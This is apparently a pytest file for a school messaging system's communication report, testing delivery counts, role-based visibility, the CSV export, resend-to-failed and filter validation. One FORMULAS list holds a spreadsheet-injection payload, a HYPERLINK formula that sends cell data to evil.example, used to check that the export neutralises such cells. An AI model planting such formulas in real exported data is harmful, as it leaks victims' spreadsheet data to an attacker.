"""The communication report: rows with figures, per-recipient rows, CSV, resend to failed."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from channels.base import ChannelKind, EmailChannel, PermanentFailure, Sent
from channels.registry import ChannelRegistry
from domain.delivery.dispatch import dispatch_deliveries
from domain.delivery.fan_out import fan_out, queued_delivery_chunks
from domain.messages.send import create_message
from domain.access.permissions import Perm
from factories import add_contact, add_section, add_student, add_user, email, first_school_id, unique
from helpers import gid, gql, make_user, pk_of, token_for, wait_for_message
from jobs.runtime import current
from models.db import session_scope
from models.directory import District, Role, School, User
from models.messaging import Delivery, DeliveryAttempt
from resolve import request, viewer_for
from shared_steps import REPORT


class BouncingEmail(EmailChannel):
    """Fails addresses that start with "bounce" with the provider's 550; sends the rest."""

    name = "bouncing"

    def send(self, batch):
        return [PermanentFailure(e.reference, "550", "mailbox unknown") if e.to.startswith("bounce")
                else Sent(e.reference, f"p-{e.reference}") for e in batch]


def sent_report_message(engine, login: str, subject: str, teacher_id: int | None = None, **fields) -> int:
    """ONCE_PER_FAMILY email to four families: two share an address (DUPLICATE), one has no email
    (NO_CONTACT_INFO), one bounces (FAILED); dispatched through BouncingEmail. With ``teacher_id``
    the students are put in a section of that teacher, so the teacher may message them."""
    school = first_school_id(engine)
    shared = email("shared")
    kids = [add_student(engine, school) for _ in range(4)]
    if teacher_id is not None:
        add_section(engine, school, teacher_ids=[teacher_id], student_ids=kids)
    add_contact(engine, kids[0], email=shared)
    add_contact(engine, kids[1], email=shared)
    add_contact(engine, kids[2])
    add_contact(engine, kids[3], email=f"bounce-{unique('x')}@families.example.org")
    with session_scope(engine) as session:
        message = create_message(session, viewer_for(session, login),
                                 request("ONCE_PER_FAMILY", kids, subject=subject, **fields))
        fan_out(session, message.id)
        chunks = queued_delivery_chunks(session, message.id, 500)
    registry = ChannelRegistry({ChannelKind.EMAIL: BouncingEmail(BouncingEmail.Config())})
    for chunk in chunks:
        dispatch_deliveries(engine, registry, chunk, current().delivery)
    return message.id


def report_for(client, token, subject):
    data = gql(client, REPORT, {"filter": {"search": subject}, "first": 10}, token)["data"]["communicationReport"]
    return [edge["node"] for edge in data["edges"]]


def test_rpt_01_rpt_02_a_row_per_message_with_its_figures(client, engine):
    """Covers RPT-01, RPT-02: type, date, sender, recipients, total, errors, counts per status
    including DUPLICATE and NO_CONTACT_INFO, emergency and flagged marks, and the content."""
    subject = unique("Report ")
    message_id = sent_report_message(engine, "admin", subject)
    [row] = report_for(client, token_for(engine, "admin"), subject)
    assert row["message"] == {"id": gid("Message", message_id), "subject": subject, "htmlBody": "<p>Hello</p>"}
    assert row["type"] == "MESSAGE" and row["source"] == "USER" and row["emergency"] is False
    assert row["flagged"] is False and row["sentAt"]
    with session_scope(engine) as session:
        admin = session.execute(select(User).where(User.login == "admin")).scalars().one()
    assert row["senderName"] == row["fromName"] == f"{admin.first_name} {admin.last_name}"
    counts = {c["status"]: c["count"] for c in row["statusCounts"]}
    assert counts == {"SENT": 1, "DUPLICATE": 1, "NO_CONTACT_INFO": 1, "FAILED": 1}
    assert row["total"] == 4 and row["errors"] == 1 and row["recipients"] == 4

    details = gql(client, """query($id: ID!) { message(id: $id) {
        failed: deliveries(status: FAILED) { totalCount edges { node { address status errorCode reason detail
          attemptCount attempts { plugin outcome errorCode detail providerMessageId } createdAt updatedAt sentAt } } }
        noAddress: deliveries(status: NO_CONTACT_INFO) { edges { node { address reason detail } } }
        all: deliveries(first: 2) { totalCount pageInfo { hasNextPage } } } }""",
                  {"id": gid("Message", message_id)}, token_for(engine, "admin"))["data"]["message"]
    [failed] = [edge["node"] for edge in details["failed"]["edges"]]
    assert failed["address"].startswith("bounce") and failed["errorCode"] == "550"
    assert failed["detail"] == "mailbox unknown" and failed["attemptCount"] == 1 and failed["sentAt"] is None
    # issue 17 point 3: the reason is the enum (null: it was tried), the attempt history is there, and a
    # missing address is null, not ""
    assert failed["reason"] is None and [a["outcome"] for a in failed["attempts"]] == ["PERMANENT_FAILURE"]
    assert failed["attempts"][0]["errorCode"] == "550" and failed["attempts"][0]["providerMessageId"] is None
    assert [edge["node"] for edge in details["noAddress"]["edges"]] == [
        {"address": None, "reason": "NO_CONTACT_INFO", "detail": None}]
    assert details["all"]["totalCount"] == 4 and details["all"]["pageInfo"]["hasNextPage"] is True


def test_rpt_03_source_is_school_district_or_user(client, engine):
    """Covers RPT-03: sent as school → SCHOOL and the school's title; as district → DISTRICT."""
    school_id = first_school_id(engine)
    with session_scope(engine) as session:
        school_name = session.get(School, school_id).name
        district_name = session.execute(select(District.name)).scalar_one()
    as_school, as_district = unique("As school "), unique("As district ")
    sent_report_message(engine, "admin", as_school, send_as_school_id=school_id)
    sent_report_message(engine, "admin", as_district, send_as_district=True)
    token = token_for(engine, "admin")
    [school_row] = report_for(client, token, as_school)
    [district_row] = report_for(client, token, as_district)
    assert (school_row["source"], school_row["fromName"]) == ("SCHOOL", school_name)
    assert (district_row["source"], district_row["fromName"]) == ("DISTRICT", district_name)


def test_report_visibility_and_filters(client, engine):
    """A teacher's report holds their own messages; a school administrator also sees colleagues'
    at their school; a district administrator ("Communication District Settings") sees everything.
    Filters narrow it, pages cover it."""
    school = first_school_id(engine)
    teacher = add_user(engine, "TEACHER", school_ids=[school], profile="Teacher")
    with session_scope(engine) as session:
        teacher_login = session.get(User, teacher).login
    subject = unique("Visibility ")
    from_teacher = sent_report_message(engine, teacher_login, subject + " teacher", teacher_id=teacher)
    sent_report_message(engine, "admin", subject + " admin")
    teacher_rows = report_for(client, token_for(engine, teacher_login), subject)
    assert [row["message"]["id"] for row in teacher_rows] == [gid("Message", from_teacher)]
    school_admin = make_user(engine, Role.ADMIN, without=[Perm.SEND_FROM_DISTRICT, Perm.DISTRICT_SETTINGS],
                             school_ids=[school])
    assert {row["message"]["id"] for row in report_for(client, school_admin, subject)} >= {gid("Message", from_teacher)}
    assert len(report_for(client, token_for(engine, "admin"), subject)) == 2
    elsewhere = make_user(engine, Role.ADMIN, without=[Perm.SEND_FROM_DISTRICT, Perm.DISTRICT_SETTINGS], school_ids=[])
    assert report_for(client, elsewhere, subject) == []
    page = gql(client, REPORT, {"filter": {"search": subject}, "first": 1}, token_for(engine, "admin"))
    assert page["data"]["communicationReport"]["pageInfo"]["hasNextPage"] is True
    emergency_only = gql(client, REPORT, {"filter": {"search": subject, "emergency": True}, "first": 5},
                         token_for(engine, "admin"))["data"]["communicationReport"]
    assert emergency_only["totalCount"] == 0
    by_sender = [{"search": subject, "senderId": sender} for sender in (gid("User", teacher), gid("Student", teacher))]
    assert [[edge["node"]["message"]["id"] for edge in gql(client, REPORT, {"filter": f, "first": 5},
                                                            token_for(engine, "admin"))["data"]["communicationReport"]["edges"]]
            for f in by_sender] == [[gid("Message", from_teacher)], []]  # another kind's id names no sender


def test_rpt_02_csv_export_lists_every_delivery(client, engine):
    """Covers RPT-02: the CSV has one row per delivery with status, reason, channel and timestamps;
    no token is 401, a message the viewer cannot read is 404. Its ids are the API's global ids
    (issue 17 point 1): the path takes the message's, and the delivery, recipient and student
    columns show theirs; a raw number or another kind's id in the path is 404 like a missing message."""
    message_id = sent_report_message(engine, "admin", unique("CSV "))
    url = f"/reports/messages/{gid('Message', message_id)}/deliveries.csv"
    admin = {"Authorization": f"Bearer {token_for(engine, 'admin')}"}
    response = client.get(url, headers=admin)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert f'filename="message-{gid("Message", message_id)}-deliveries.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    with session_scope(engine) as session:
        ledger = session.execute(select(Delivery.id, Delivery.recipient_kind, Delivery.recipient_id,
                                        Delivery.student_id).where(Delivery.message_id == message_id)
                                 .order_by(Delivery.id)).all()
    assert [(row["delivery_id"], row["recipient_kind"], row["recipient_id"], row["student_id"]) for row in rows] == [
        (gid("Delivery", d.id), "CONTACT", gid("Contact", d.recipient_id), gid("Student", d.student_id))
        for d in ledger]
    assert {d.recipient_kind for d in ledger} == {"CONTACT"}
    assert sorted(row["status"] for row in rows) == ["DUPLICATE", "FAILED", "NO_CONTACT_INFO", "SENT"]
    failed = next(row for row in rows if row["status"] == "FAILED")
    assert failed["channel"] == "EMAIL" and failed["error_code"] == "550" and failed["created_at"]
    # issue 17 point 3: the reason code, the ledger's words, the provider's id and each attempt
    assert (failed["reason"], failed["detail"], failed["attempts"]) == ("", "mailbox unknown", "1")
    assert failed["attempt_history"].endswith(" bouncing PERMANENT_FAILURE 550"), failed["attempt_history"]
    sent = next(row for row in rows if row["status"] == "SENT")
    # the provider's reference is the delivery's row number (what dispatch hands it), not the global id
    assert sent["provider_message_id"] == f"p-{pk_of(sent['delivery_id'])}" and sent["reason"] == ""
    assert sent["attempt_history"].endswith(f" bouncing SENT p-{pk_of(sent['delivery_id'])}")
    assert next(row for row in rows if row["status"] == "NO_CONTACT_INFO")["reason"] == "NO_CONTACT_INFO"
    assert client.get(url).status_code == 401
    stranger = make_user(engine, Role.TEACHER, school_ids=[])
    assert client.get(url, headers={"Authorization": f"Bearer {stranger}"}).status_code == 404
    for not_this_message in (gid("Message", 999999), str(message_id), gid("Student", message_id), "not-an-id"):
        response = client.get(f"/reports/messages/{not_this_message}/deliveries.csv", headers=admin)
        assert response.status_code == 404, not_this_message


def test_issue_17_the_csv_shows_the_ids_the_api_shows_for_every_kind_of_recipient(client, engine):
    """A message to contacts, staff and an imported recipient: each CSV row's delivery_id,
    recipient_id and student_id are the global ids message(id:) shows for that delivery (a staff
    member's is a User id, an imported recipient's an ImportedRecipient id, their student_id empty)."""
    from two_schools import sent_to_two_schools

    sent = sent_to_two_schools(client, engine)
    admin = token_for(engine, "admin")
    shown = gql(client, """query($id: ID!) { message(id: $id) { deliveries(first: 100) {
        nodes { id recipientKind recipientId studentId channel } } } }""", {"id": sent["id"]}, admin)
    api = {d["id"]: (d["recipientKind"], d["recipientId"], d["studentId"] or "", d["channel"])
           for d in shown["data"]["message"]["deliveries"]["nodes"]}
    response = client.get(f"/reports/messages/{sent['id']}/deliveries.csv", headers={"Authorization": f"Bearer {admin}"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {row["delivery_id"]: (row["recipient_kind"], row["recipient_id"], row["student_id"], row["channel"])
            for row in rows} == api
    assert {row["recipient_kind"] for row in rows} == {"CONTACT", "USER", "IMPORTED"}
    kinds = {"CONTACT": "Contact", "USER": "User", "IMPORTED": "ImportedRecipient"}
    with session_scope(engine) as session:
        ledger = {d.id: d for d in session.execute(select(Delivery).where(
            Delivery.message_id == pk_of(sent["id"]))).scalars()}
    for row in rows:
        delivery = ledger[pk_of(row["delivery_id"])]
        assert row["delivery_id"] == gid("Delivery", delivery.id)
        assert row["recipient_id"] == gid(kinds[row["recipient_kind"]], delivery.recipient_id)
        assert row["student_id"] == ("" if delivery.student_id is None else gid("Student", delivery.student_id))
    assert {row["recipient_id"] for row in rows if row["recipient_kind"] == "USER"} == {
        gid("User", sent["people"][name][1]) for name in ("teacher1", "teacher3")}


def test_resend_to_failed_targets_only_failed_deliveries(client, engine):
    """resendToFailed queues the FAILED delivery again and nothing else; the worker sends it."""
    message_id = sent_report_message(engine, "admin", unique("Resend "))
    with session_scope(engine) as session:
        before = dict(session.execute(select(Delivery.id, Delivery.attempts).where(
            Delivery.message_id == message_id)).all())
    token = token_for(engine, "admin")
    result = gql(client, """mutation($id: ID!) { resendToFailed(messageId: $id) { ... on ResendToFailedSuccess { requeued message { status } } } }""",
                 {"id": gid("Message", message_id)}, token)["data"]["resendToFailed"]
    assert result == {"requeued": 1, "message": {"status": "SENDING"}}
    assert wait_for_message(client, token, gid("Message", message_id))["status"] == "COMPLETED"
    with session_scope(engine) as session:
        after = {d.id: d for d in session.execute(select(Delivery).where(Delivery.message_id == message_id)).scalars()}
        attempts = dict(session.execute(select(DeliveryAttempt.delivery_id, DeliveryAttempt.plugin).where(
            DeliveryAttempt.delivery_id.in_(list(after)), DeliveryAttempt.plugin == "outbox")).all())
    [resent] = [d for d in after.values() if d.address.startswith("bounce")]
    assert resent.status == "SENT" and resent.attempts == before[resent.id] + 1 and list(attempts) == [resent.id]
    assert all(d.attempts == before[d.id] for d in after.values() if d.id != resent.id)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for your report")', "+1", "-2", "@SUM(A1)",
            "\tx", "\rx"]


def test_issue_13_9_csv_cells_never_run_as_spreadsheet_formulas(client, engine):
    """Covers RPT-02 (issue 13 point 9): contacts named like spreadsheet formulas come back in the
    deliveries CSV as text: each such cell starts with a single quote, as OWASP advises; the csv
    module quotes what holds quotes, commas or line breaks, so the file reads back cell for cell."""
    school = first_school_id(engine)
    kids = [add_student(engine, school) for _ in FORMULAS]
    for kid, name in zip(kids, FORMULAS):
        add_contact(engine, kid, first_name=name, last_name="", email=email("formula"))
    with session_scope(engine) as session:
        message = create_message(session, viewer_for(session, "admin"), request("PRIMARY_CONTACTS", kids))
        fan_out(session, message.id)
        names = dict(session.execute(select(Delivery.id, Delivery.recipient_name).where(
            Delivery.message_id == message.id)).all())
    assert sorted(name.rstrip() for name in names.values()) == sorted(FORMULAS)
    response = client.get(f"/reports/messages/{gid('Message', message.id)}/deliveries.csv",
                          headers={"Authorization": f"Bearer {token_for(engine, 'admin')}"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert {row["delivery_id"]: row["recipient_name"] for row in rows} == {
        gid("Delivery", delivery_id): "'" + name for delivery_id, name in names.items()}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_report_dates_need_a_time_zone(client, engine):
    """Covers RPT-01 (the report's date filters), issue 13 point 11: sentFrom or sentTo without a
    time zone was an internal error; it is BAD_USER_INPUT naming the filter field, and an offset
    or Z is read as given."""
    subject = unique("Zoned ")
    sent_report_message(engine, "admin", subject)
    token = token_for(engine, "admin")
    for field in ("sentFrom", "sentTo"):
        body = gql(client, REPORT, {"filter": {field: "2026-01-01T00:00:00", "search": subject}, "first": 5}, token)
        assert body["data"] is None
        [error] = body["errors"]
        assert error["extensions"] == {"code": "BAD_USER_INPUT", "argument": f"filter.{field}"}, body
        assert "time zone" in error["message"]
    zoned = gql(client, REPORT, {"filter": {"sentFrom": "2000-01-01T00:00:00-05:00", "sentTo": "2999-01-01T00:00:00Z",
                                            "search": subject}, "first": 5}, token)
    assert zoned["data"]["communicationReport"]["totalCount"] == 1, zoned
    future = gql(client, REPORT, {"filter": {"sentFrom": "2999-01-01T00:00:00+02:00", "search": subject},
                                  "first": 5}, token)
    assert future["data"]["communicationReport"]["totalCount"] == 0


def test_report_search_is_bounded(client, engine):
    """Covers RPT-01 (the report's search), issue 13 point 11: a 50 KB search string was an
    internal error (SQLite refuses such LIKE patterns); a search longer than 200 characters is
    BAD_USER_INPUT naming filter.search."""
    token = token_for(engine, "admin")
    body = gql(client, REPORT, {"filter": {"search": "x" * 50_000}, "first": 5}, token)
    [error] = body["errors"]
    assert error["extensions"] == {"code": "BAD_USER_INPUT", "argument": "filter.search", "maxLength": 200}, body
    assert "200" in error["message"]
    at_the_bound = gql(client, REPORT, {"filter": {"search": "x" * 200}, "first": 5}, token)
    assert at_the_bound["data"]["communicationReport"]["totalCount"] == 0
